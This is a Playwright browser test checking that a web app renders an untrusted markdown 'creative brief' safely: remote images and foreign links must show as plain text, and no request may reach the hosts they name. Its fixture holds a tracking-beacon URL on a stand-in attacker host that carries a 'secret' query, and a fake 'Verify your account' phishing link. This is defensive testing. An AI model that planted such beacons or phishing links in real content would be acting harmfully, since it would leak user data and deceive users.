import { expect, test } from "@playwright/test";
import { VIEWPORTS } from "./support/screens.ts";

/*
 * A brief is data from outside (issue 12, item 1): in a real browser, a brief whose markdown
 * carries a remote image (a beacon) and links to other sites shows their words, and the page
 * makes no request at all to those hosts. The brief is put where a reload finds it (the
 * temporary brief content in local storage), as a brief written from a hostile page would be.
 */

test.use({ viewport: VIEWPORTS.desktop });

const FOREIGN = /(?:^|\.)(?:evil|phish)\.example$/;

const CONTENT = [
  "# Creative Brief: Northbound Coffee",
  "",
  "## Background",
  "",
  "A beacon: ![the beacon](https://evil.example/collect?q=secret) and a reference one ![second][b].",
  "",
  "[Verify your account](https://phish.example/login), https://evil.example/bare and <https://phish.example/auto>.",
  "",
  "[b]: https://evil.example/ref.gif",
].join("\n");

test("a brief's remote images and foreign links stay words, and nothing is fetched from them", async ({
  page,
}) => {
  // The first visit compiles the home page's lazy sections in the dev server.
  test.setTimeout(180_000);
  const foreign: string[] = [];
  page.on("request", (request) => {
    if (FOREIGN.test(new URL(request.url()).hostname)) foreign.push(request.url());
  });
  // Nothing may leave for those hosts even if something asked: the list above still records it.
  await page.route(
    (url) => FOREIGN.test(url.hostname),
    (route) => route.abort(),
  );
  await page.addInitScript((content) => {
    localStorage.setItem(
      "legendary.tempBriefContent",
      JSON.stringify({
        content,
        jobId: null,
        appliedJobId: null,
        suggestedTitle: "",
        timestamp: Date.now(),
      }),
    );
  }, CONTENT);

  await page.goto("/#brief-form-section");
  const panel = page.getByRole("region", { name: "Generated brief" });
  await expect(
    panel.getByRole("heading", { name: "Creative Brief: Northbound Coffee" }),
  ).toBeVisible({
    timeout: 120_000,
  });
  await page.waitForLoadState("networkidle");
  expect(foreign).toEqual([]);
  await expect(panel).toContainText("A beacon: the beacon and a reference one second.");
  await expect(panel).toContainText("Verify your account, https://evil.example/bare and");
  await expect(panel.locator("img")).toHaveCount(0);
  await expect(panel.locator("a")).toHaveCount(0);
});
